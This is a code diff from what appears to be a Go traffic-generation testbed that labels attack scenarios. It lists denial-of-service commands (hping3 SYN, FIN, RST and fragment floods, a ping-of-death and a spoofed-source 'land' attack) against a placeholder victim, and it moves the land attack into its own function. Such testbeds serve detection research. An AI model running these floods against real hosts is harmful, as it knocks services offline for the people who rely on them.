@@ -37,7 +37,7 @@ func otherFloods() []Scenario {
 		row("brief-icmp", true, "timeout 2.5 ping -q -f -s 1000 VICTIM"),
 		row("ping-of-death", true, "timeout SECS ping -q -s 65000 -i 0.02 VICTIM"),
 		row("udp-fragments", true, "timeout SECS hping3 -q -2 -p 53 -d 3000 -i u4000 VICTIM"),
-		row("land", true, "timeout SECS hping3 -q -S -a VICTIM -s 80 -k -p 80 -i uGAPU VICTIM"),
+		{Name: "land", Class: attack.DoS, Also: []attack.Class{attack.DDoS}, Limit: 45 * time.Second, Near: true, Play: land},
 		row("blacknurse", true, "timeout SECS hping3 -q -1 -C 3 -K 3 -i uGAPU VICTIM"),
 		row("fin-flood", true, "timeout SECS hping3 -q -F -p 80 -i uGAPU VICTIM"),
 		row("rst-flood", true, "timeout SECS hping3 -q -R -p 443 -i uGAPU VICTIM"),
@@ -70,6 +70,17 @@ func floodService(ctx context.Context, r *Run, line string, of func(context.Cont
 	}
 	r.against(victim)
 	r.strikeWith(ctx, a, r.fillFlood(line, victim))
+	return nil
+}
+
+// land sends in the victim's own name, so nobody can be named.
+func land(ctx context.Context, r *Run) error {
+	a, err := r.host(ctx, "attacker1", false)
+	if err != nil {
+		return err
+	}
+	r.against(r.Shop)
+	r.play(ctx, a, "%s", r.fillFlood("timeout SECS hping3 -q -S -a VICTIM -s 80 -k -p 80 -i uGAPU VICTIM", r.Shop))
 	return nil
 }
 
